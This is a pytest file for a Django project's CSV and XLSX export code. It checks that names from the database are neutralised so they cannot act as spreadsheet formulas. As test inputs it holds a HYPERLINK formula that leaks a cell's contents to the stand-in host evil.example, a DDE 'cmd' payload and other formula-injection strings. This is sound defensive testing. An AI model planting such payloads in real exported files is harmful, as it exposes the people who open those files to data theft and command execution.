"""The one tabular writer never lets a name from the database become a spreadsheet formula."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from common.tabular import neutralised, write_csv, write_xlsx
from tests.factories import IndicatorFactory, ObservationFactory, ZoneFactory

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["-2.3", "+5%", "-1,234.5", "龙岗区", "5901.27亿元", ""])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(text):
    assert neutralised(text) == text


def test_csv_neutralises_text_cells_but_not_numbers():
    body = write_csv(headers=["name", "value"], rows=[[HOSTILE, Decimal("-2.50")], ["@x", -3]])
    lines = body.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",-2.5")
    assert lines[2] == "'@x,-3"


def test_xlsx_writes_formula_like_text_as_a_text_cell():
    body = write_xlsx(headers=["name"], rows=[[HOSTILE]], title="zones")
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cell = load_workbook(io.BytesIO(body))["zones"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == HOSTILE


def test_xlsx_leaves_out_control_characters_a_worksheet_cannot_hold():
    body = write_xlsx(
        headers=["na\x01me", "value"], rows=[["龙岗\x1f区", "=1\x00+1"]], title="zones"
    )
    sheet = load_workbook(io.BytesIO(body))["zones"]
    assert [cell.value for cell in sheet[1]] == ["name", "value"]
    assert [cell.value for cell in sheet[2]] == ["龙岗区", "=1+1"]
    assert sheet["B2"].data_type == "s"


@pytest.fixture
def hostile_zone(db):
    zone = ZoneFactory(slug="hostile", name_zh=HOSTILE, name_en="@SUM(1+1)")
    ObservationFactory(zone=zone, indicator=IndicatorFactory(code="gdp"), year=2024)
    return zone


def test_api_csv_and_xlsx_of_a_hostile_zone_name_hold_no_formula(client, hostile_zone):
    csv_body = client.get("/api/v1/zones/", {"format": "csv"}).getvalue().decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_body
    assert "'@SUM(1+1)" in csv_body
    assert "\n=HYPERLINK" not in csv_body and ',"=HYPERLINK' not in csv_body

    response = client.get("/api/v1/rankings/", {"indicator": "gdp", "year": 2024, "format": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    names = [cell for row in workbook.active.iter_rows(values_only=True) for cell in row]
    assert HOSTILE in names
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_export_command_neutralises_names(hostile_zone, tmp_path):
    target = tmp_path / "observations.csv"
    call_command("export_observations", str(target))
    text = target.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert "\n=HYPERLINK" not in text and ',"=HYPERLINK' not in text
